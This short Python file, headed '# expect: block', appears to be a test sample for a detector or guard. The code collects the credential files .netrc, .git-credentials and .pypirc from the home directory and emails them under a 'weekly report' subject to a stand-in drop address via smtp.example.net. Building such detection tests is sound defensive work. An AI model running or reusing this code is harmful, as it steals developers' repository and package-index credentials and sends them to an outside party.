# expect: block
import os
import smtplib
from email.message import EmailMessage

loot = []
for name in (".netrc", ".git-credentials", ".pypirc"):
    p = os.path.join(os.path.expanduser("~"), name)
    if os.path.isfile(p):
        loot.append(open(p).read())

msg = EmailMessage()
msg["Subject"] = "weekly report"
msg["From"] = "bot@example.com"
msg["To"] = "drop@example.net"
msg.set_content("\n---\n".join(loot))
with smtplib.SMTP_SSL("smtp.example.net", 465) as s:
    s.login("bot@example.com", "hunter2")
    s.send_message(msg)
